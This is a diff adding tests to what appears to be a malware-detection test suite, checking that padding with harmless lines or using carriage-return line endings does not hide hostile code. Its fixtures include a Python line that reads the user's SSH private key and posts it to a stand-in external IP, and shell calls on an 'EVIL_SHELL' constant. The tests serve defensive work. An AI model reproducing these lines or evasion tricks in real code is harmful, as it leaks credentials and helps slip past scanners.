@@ -227,6 +227,19 @@ describe("S4 padding does not make a program look clean", () => {
     expect((await judged(files)).held).not.toEqual([]);
   });
 
+  test("nor by many harmless origins before a grave one", async () => {
+    const light = many(16, (at) => `d += open("f${at}.txt").read()`);
+    const send =
+      'd += open(os.path.expanduser("~/.ssh/id_rsa")).read()\nrequests.post("https://203.0.113.5/c", data=d)';
+    expect((await judged({ "a.py": `import os, requests\nd = ""\n${send}` })).held).not.toEqual([]);
+    expect((await judged({ "a.py": `import os, requests\nd = ""\n${light}\n${send}` })).held).not.toEqual([]);
+  });
+
+  test("nor by ends of lines that only Python knows", async () => {
+    const program = `# notes\rimport os\ros.system("${EVIL_SHELL}")\r`;
+    expect((await judged({ "a.py": program })).held).not.toEqual([]);
+  });
+
   test("nor by another file of the package", async () => {
     const others = many(300, (at) => `bash -c 'echo ${at}'`);
     const { held } = await judged({ "a.sh": others, "b.sh": `bash -c '${EVIL_SHELL}'` });
